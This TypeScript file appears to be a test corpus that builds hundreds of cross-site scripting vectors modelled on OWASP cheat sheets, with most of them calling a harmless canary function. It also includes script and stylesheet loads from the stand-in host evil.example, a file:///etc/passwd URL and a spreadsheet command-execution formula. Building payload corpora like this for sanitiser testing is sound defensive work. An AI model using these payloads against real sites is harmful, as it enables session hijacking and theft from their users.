/**
 * Texts that would run as script where a page forgets what they are: written here after the families that OWASP's
 * cheat sheets describe (contexts of HTML, attributes, scripts, styles and addresses; filters and their evasion).
 * `CANARY` is what each would call.
 */

import { vectorsOfPlaces } from './vectors-of-places.ts';

export const CANARY = 'hearsayCanary';

const CALLS = [`${CANARY}()`, `${CANARY}\`1\``, `top['${CANARY}']()`, `eval('${CANARY}()')`];

const call = (index: number): string => CALLS[index % CALLS.length]!;

const HANDLERS = [
  'onload',
  'onerror',
  'onclick',
  'onmouseover',
  'onmouseenter',
  'onfocus',
  'onfocusin',
  'onanimationstart',
  'onanimationend',
  'ontransitionend',
  'ontoggle',
  'onbegin',
  'onpointerover',
  'onpointerrawupdate',
  'onwheel',
  'onscrollend',
  'onbeforetoggle',
  'oncontentvisibilityautostatechange',
  'onbeforeinput',
  'oncuechange',
];

const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'marquee',
  'input autofocus',
  'select autofocus',
  'textarea autofocus',
  'iframe srcdoc=x',
  'object data=x',
  'embed src=x',
  'math',
  'style',
  'x id=x tabindex=1',
  'button popovertarget=x',
  'xss contenteditable autofocus',
  'link rel=stylesheet href=x',
  'a href=#',
];

/** Every handler on several elements, written in several ways. */
const handled = HANDLERS.flatMap((handler, index) =>
  [0, 7, 13].map((step) => {
    const element = ELEMENTS[(index + step) % ELEMENTS.length]!;
    const ways = [
      `<${element} ${handler}=${call(index)}>`,
      `<${element}/${handler}="${call(index)}"//`,
      `<${element.toUpperCase()}\u000c${handler.toUpperCase()}='${call(index)}' x=`,
    ];
    return ways[(index + step) % ways.length]!;
  }),
);

/** What gets out of the place where a text was put, before it goes on. */
const BREAKS = [
  '',
  '"',
  "'",
  '`',
  '">',
  "'>",
  '-->',
  '--!>',
  ']]>',
  '</script>',
  '</style>',
  '</title>',
  '</textarea>',
  '</noscript>',
  '</template>',
  '</xmp>',
  '</svg>',
  '</math>',
  '</bdi>',
  '</td></tr></table>',
  '<!--',
  '<![CDATA[',
  '\\"',
  "\\'",
  '\\u0022',
  '"}]}',
  "'}]}",
  '"]]',
  '\u2028',
  '\u2029',
  '*/',
  '//',
  '\n',
  '${',
  '{{',
  '&quot;>',
  '\u0000">',
];

const broken = BREAKS.flatMap((out, index) => [
  `${out}<script>${call(index)}</script>`,
  `${out}<img src=x onerror=${call(index)}>`,
  `${out};${CANARY}();//`,
]);

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\u0001javascript:',
  'java\tscript:',
  'java\nscript:',
  'java\r\nscript:',
  'javascript\u0000:',
  '&#106;avascript:',
  '&Tab;javascript:',
  'javascript&colon;',
  'vbscript:',
  'livescript:',
  'view-source:javascript:',
  'data:text/html,<script>',
  'data:text/html;base64,',
  'data:image/svg+xml,<svg onload=',
  'blob:javascript:',
  'filesystem:javascript:',
  'https://user:pw@evil.example/#',
  'https:javascript:',
  '//evil.example/',
  '\\\\evil.example\\',
  'http:\u3002//',
  'jar:javascript:',
  'file:///etc/passwd#',
];

/** Addresses, alone and in the attributes that follow them. */
const addressed = SCHEMES.flatMap((scheme, index) => [
  `${scheme}${CANARY}()`,
  `<a href="${scheme}${call(index)}">x</a>`,
  `<form action="${scheme}${call(index)}"><button>x`,
  `<iframe src="${scheme}${call(index)}">`,
]);

/** Markup that one parser reads in another way than the next. */
const mutated = [
  `<noscript><p title="</noscript><img src=x onerror=${CANARY}()>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${CANARY}()>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CANARY}()&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CANARY}()>`,
  `<svg><style><img src=x onerror=${CANARY}()></style>`,
  `<svg><animate attributeName=href values=javascript:${CANARY}() /><a id=x><text>x`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${CANARY}()</script></svg>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${CANARY}()</script>">`,
  `<svg><set attributeName=onmouseover to=${CANARY}()>`,
  `<svg><title><![CDATA[</title><script>${CANARY}()</script>]]>`,
  `<template><script>${CANARY}()</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${CANARY}()></template>`,
  `<!doctype html><html manifest=x><base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CANARY}()">`,
  `<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'">`,
  `<link rel=import href="data:text/html,<script>${CANARY}()</script>">`,
  `<link rel=prefetch href="//evil.example/">`,
  `<link rel=dns-prefetch href="//evil.example/">`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<style>*{background:url(//evil.example/)}</style>`,
  `<div style="background:url(javascript:${CANARY}())">`,
  `<div style="width:expression(${CANARY}())">`,
  `<div style=-moz-binding:url(//evil.example/x.xml#x)>`,
  `<style>body{behavior:url(//evil.example/x.htc)}</style>`,
  `"style="animation-name:x"onanimationstart="${CANARY}()`,
  `{{constructor.constructor('${CANARY}()')()}}`,
  `{{$on.constructor('${CANARY}()')()}}`,
  `<%= ${CANARY}() %>`,
  `#{${CANARY}()}`,
  `\${${CANARY}()}`,
  `[[${CANARY}()]]`,
  `<x ng-app ng-csp>{{$eval('${CANARY}()')}}`,
  `__proto__`,
  `constructor`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${CANARY}()>"}}`,
  `toString`,
  `<img id=facts><img id=words><img id=app>`,
  `<form id=app><input name=replaceChildren>`,
  `<a id=CANARY href=javascript:${CANARY}()>`,
  `<ScRiPt sRc=//evil.example/x.js></sCrIpT>`,
  `<script/x>${CANARY}()</script\t\n bar>`,
  `<script x=">" >${CANARY}()</script>`,
  `<script type=module>${CANARY}()</script>`,
  `<script type=importmap>{"imports":{"x":"//evil.example/x.js"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["//evil.example/"]}]}</script>`,
  `\u003cscript\u003e${CANARY}()\u003c/script\u003e`,
  `&lt;script&gt;${CANARY}()&lt;/script&gt;`,
  `&#x3c;script&#x3e;${CANARY}()&#x3c;/script&#x3e;`,
  `%3Cscript%3E${CANARY}()%3C/script%3E`,
  `+ADw-script+AD4-${CANARY}()+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${CANARY}()\uff1c/script\uff1e`,
  `\u00bcscript\u00be${CANARY}()\u00bc/script\u00be`,
  `<\u0000script>${CANARY}()</script>`,
  `<scr\u0000ipt>${CANARY}()</scr\u0000ipt>`,
  `<s\u0131cript>${CANARY}()</s\u0131cript>`,
  `<\u017fcript>${CANARY}()</\u017fcript>`,
  `\ufeff<script>${CANARY}()</script>`,
  `\u202e<script>${CANARY}()</script>`,
  `\ud800<script>${CANARY}()</script>\udfff`,
  `=HYPERLINK("javascript:${CANARY}()")`,
  `=cmd|'/c calc'!A1`,
  `url(#x);background:url(//evil.example/)`,
  `url(javascript:${CANARY}())`,
  `var(--x,url(//evil.example/))`,
  `#?topic=<img src=x onerror=${CANARY}()>`,
];

/** All of them, each once. */
export const VECTORS: readonly string[] = [
  ...new Set([...handled, ...broken, ...addressed, ...mutated, ...vectorsOfPlaces(CALLS[0]!)]),
];
